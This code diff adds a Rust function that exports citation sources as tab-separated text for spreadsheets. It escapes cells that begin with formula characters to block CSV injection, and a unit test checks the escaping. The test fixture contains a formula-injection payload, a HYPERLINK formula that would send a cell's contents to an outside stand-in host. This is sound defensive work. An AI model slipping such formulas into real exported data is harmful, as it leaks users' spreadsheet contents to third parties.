@@ -142,6 +142,22 @@ pub fn rows(sources: &[Source]) -> Vec<[String; 4]> {
         .collect()
 }
 
+/// All sources as a table that can be pasted into a spreadsheet: tabs between the cells of [`rows`].
+///
+/// A spreadsheet takes a cell that begins with `=`, `+`, `-` or `@` for a formula, which could fetch or send something
+/// (OWASP, CSV injection). Such a cell begins with an apostrophe, by which spreadsheets know text.
+pub fn tab_separated(sources: &[Source]) -> String {
+    let cell = |cell: &String| {
+        let text = cell.replace(['\t', '\n', '\r'], " ");
+        if text.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) {
+            format!("'{text}")
+        } else {
+            text
+        }
+    };
+    rows(sources).iter().map(|row| row.each_ref().map(cell).join("\t") + "\n").collect()
+}
+
 fn bibtex_entry(item: &Value) -> String {
     let empty = Map::new();
     let fields = item.as_object().unwrap_or(&empty);
@@ -261,6 +277,22 @@ mod tests {
     #[test]
     fn letters_go_on_behind_z() {
         assert_eq!([1, 25, 26, 27].map(letters), ["b", "z", "aa", "ab"]);
+    }
+
+    #[test]
+    fn a_spreadsheet_gets_no_formula() {
+        let word = |text: &str| Some(crate::text::Spanned::new(text.to_owned(), crate::text::Span::default()));
+        let cite = Cite {
+            title: word("=HYPERLINK(\"https://a.b/\"&A1)"),
+            container: word("@SUM(1+1)\tThe Hill\nx"),
+            pages: word("-2+3"),
+            ..Cite::default()
+        };
+        let sources = [Source { key: "a".to_owned(), cite, cards: 1 }];
+        assert_eq!(
+            tab_separated(&sources),
+            "'@SUM(1+1) The Hill x\t'=HYPERLINK(\"https://a.b/\"&A1)\t'@SUM(1+1) The Hill x\t'-2+3\n"
+        );
     }
 
     #[test]
